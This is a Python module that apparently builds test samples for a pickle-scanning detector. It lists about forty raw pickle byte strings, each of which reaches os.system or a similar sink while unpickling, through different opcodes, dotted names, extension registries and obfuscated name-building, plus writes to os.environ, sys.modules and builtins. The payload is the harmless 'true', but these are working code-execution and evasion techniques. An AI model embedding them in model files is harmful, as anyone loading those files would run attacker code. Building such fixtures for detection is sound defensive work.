"""Roads from a pickle's opcodes to a call: every opcode that calls, plants or computes a name.

The sink is `os.system('true')` or a relative; what differs is the road. Source: the pickle virtual
machine as CPython documents it.
"""

from __future__ import annotations

import codecs

from hostile.build import MARK, MEDIUM, NOT_CLEAN, Sample, constant, name, text, value

P2, P4, P5 = b"\x80\x02", b"\x80\x04", b"\x80\x05"
SYSTEM = name("os", "system")
TRUE = value(("true",))
BYTES_TRUE = b"S'true'\n"
INSTANCE = b"(ctypes\nSimpleNamespace\no"  # made by OBJ: an object that takes any attribute

# title -> bytes
_WAYS: dict[str, bytes] = {
    "REDUCE, protocol 0": b"cposix\nsystem\n(S'true'\ntR.",
    "INST": b"(S'true'\nios\nsystem\n.",
    "OBJ": b"(cos\nsystem\nS'true'\no.",
    "OBJ in the middle of a list": b"](K\x01" + MARK + SYSTEM + BYTES_TRUE + b"oe.",
    "NEWOBJ of a lazy map, then of a tuple that runs it": (
        P2 + name("builtins", "tuple") + name("builtins", "map") + SYSTEM + b"](S'true'\ne\x86"
        b"\x81\x85\x81."
    ),
    "NEWOBJ_EX of a lazy map, then of a tuple that runs it": (
        P4 + name("builtins", "frozenset") + name("builtins", "map") + SYSTEM + b"](S'true'\ne\x86"
        b"}\x92\x85}\x92."
    ),
    "a map that a list call runs": (
        P2
        + name("builtins", "list")
        + name("builtins", "map")
        + SYSTEM
        + b"](S'true'\ne\x86R\x85R."
    ),
    "itertools.starmap run by collections.deque": (
        P2
        + name("collections", "deque")
        + name("itertools", "starmap")
        + SYSTEM
        + value([("true",)])
        + b"\x86R\x85R."
    ),
    "itertools.groupby with a command as its key": (
        P4
        + name("builtins", "list")
        + name("itertools", "groupby")
        + value((["true"],))
        + b"}"
        + text("key")
        + SYSTEM
        + b"s\x92\x85R."
    ),
    "copyreg.__newobj__ of a map": (
        P2
        + name("copyreg", "_reconstructor")
        + name("builtins", "tuple")
        + b"2"
        + name("copyreg", "__newobj__")
        + name("builtins", "map")
        + SYSTEM
        + b"](S'true'\ne\x87R"
        b"\x87R."
    ),
    "BUILD puts a command where __setstate__ is looked for": (
        P2 + INSTANCE + b"}U\x0c__setstate__" + SYSTEM + b"sb" + BYTES_TRUE + b"b."
    ),
    "BUILD monkeypatches a class": (
        P2 + name("json", "JSONEncoder") + b"N}U\x07default" + SYSTEM + b"s\x86b."
    ),
    "BUILD on a module": P2 + name("os", "path") + b"}U\x06exists" + SYSTEM + b"sb.",
    "APPEND calls a planted append": (
        P2 + INSTANCE + b"}U\x06append" + SYSTEM + b"sb" + BYTES_TRUE + b"a."
    ),
    "APPENDS calls a planted extend": (
        P2 + INSTANCE + b"}U\x06extend" + SYSTEM + b"sb(" + BYTES_TRUE + b"e."
    ),
    "ADDITEMS calls a planted add": (
        P4 + INSTANCE + b"}U\x03add" + SYSTEM + b"sb(" + BYTES_TRUE + b"\x90."
    ),
    "SETITEM into os.environ": b"cos\nenviron\nS'LD_PRELOAD'\nS'/nonexistent/x.so'\ns.",
    "SETITEM into sys.modules": b"csys\nmodules\nS'json'\ncos\n__dict__\ns.",
    "SETITEMS into builtins' namespace": b"cbuiltins\n__dict__\n(S'len'\n" + SYSTEM + b"u.",
    "APPEND to sys.path": b"csys\npath\nS'/nonexistent'\na.",
    "APPEND to sys.meta_path": b"csys\nmeta_path\nN" + b"a.",
    "EXT1 registered by the stream itself": (
        P2
        + name("copyreg", "add_extension")
        + value(("os", "system", 240))
        + b"R0\x82\xf0"
        + TRUE
        + b"R."
    ),
    "EXT2 registered by the stream itself": (
        P2
        + name("copyreg", "add_extension")
        + value(("os", "system", 999))
        + b"R0\x83\xe7\x03"
        + TRUE
        + b"R."
    ),
    "EXT4 with a code written in base sixteen": (
        P2 + name("copyreg", "add_extension") + b"(S'os'\nS'system'\nI0x10001\ntR0"
        b"\x84\x01\x00\x01\x00" + TRUE + b"R."
    ),
    "EXT1 through copyreg's own table": (
        P2 + name("copyreg", "_inverted_registry") + b"K\xf0" + value(("os", "system")) + b"s0"
        b"\x82\xf0" + TRUE + b"R."
    ),
    "EXT1 that nobody registered": P2 + b"\x82\xf0" + TRUE + b"R.",
    "dotted name through a harmless module": P4
    + text("json")
    + text("codecs.sys.modules")
    + b"\x93.",
    "dotted name: shutil's os": P4 + text("shutil") + text("os.system") + b"\x93" + TRUE + b"R.",
    "dotted name: os.path's os": P4 + text("os") + text("path.os.system") + b"\x93" + TRUE + b"R.",
    "dotted name with GLOBAL after protocol 4": P4 + name("pathlib", "os.system") + TRUE + b"R.",
    "dotted name: a library's os": P4 + text("numpy") + text("os.system") + b"\x93" + TRUE + b"R.",
    "dotted name: torch's sys": P4
    + text("torch")
    + text("serialization.os.system")
    + b"\x93"
    + TRUE
    + b"R.",
    "dotted name: a function's globals": (
        P4
        + text("json")
        + text("JSONEncoder.__init__.__globals__.get")
        + b"\x93"
        + value(("__builtins__",))
        + b"R."
    ),
    "dotted name: subclasses of object": (
        P4 + text("builtins") + text("object.__subclasses__") + b"\x93)R."
    ),
    "attribute of a module that is allowed": (P2 + name("numpy", "__builtins__") + b"."),
    "getattr by call": (
        P2
        + name("builtins", "getattr")
        + name("importlib", "import_module")
        + value(("os",))
        + b"R"
        + b"U\x06system\x86R"
        + TRUE
        + b"R."
    ),
    "name from codecs.decode": (
        P4
        + text("os")
        + name("codecs", "decode")
        + value((codecs.encode("system", "rot13"), "rot13"))
        + b"R\x93"
        + TRUE
        + b"R."
    ),
    "name from bytes.decode": (
        P4
        + text("os")
        + name("_codecs", "decode")
        + value((b"system", "utf-8"), 4)
        + b"R\x93"
        + TRUE
        + b"R."
    ),
    "name from str.join": (
        P4
        + text("os")
        + text("builtins")
        + text("str.join")
        + b"\x93"
        + value(("", ["sys", "tem"]))
        + b"R\x93"
        + TRUE
        + b"R."
    ),
    "name from operator.concat": (
        P4
        + name("operator", "concat")
        + value(("o", "s"))
        + b"R"
        + text("system")
        + b"\x93"
        + TRUE
        + b"R."
    ),
    "name from urllib.parse.unquote": (
        P4
        + name("urllib.parse", "unquote")
        + value(("%6fs",))
        + b"R"
        + text("system")
        + b"\x93"
        + TRUE
        + b"R."
    ),
    "name from str.format": (
        P4
        + text("builtins")
        + text("str.format")
        + b"\x93"
        + value(("{}s", "o"))
        + b"R"
        + text("system")
        + b"\x93"
        + TRUE
        + b"R."
    ),
}

# Whether this one is called at all is decided by a registry that we cannot see.
_EXPECT = {"EXT1 that nobody registered": NOT_CLEAN}
_DOES = "runs the call while it unpickles"

ROADS: tuple[Sample, ...] = tuple(
    Sample(title, "model.pkl", constant(data), _DOES, _EXPECT.get(title, MEDIUM))
    for title, data in _WAYS.items()
)
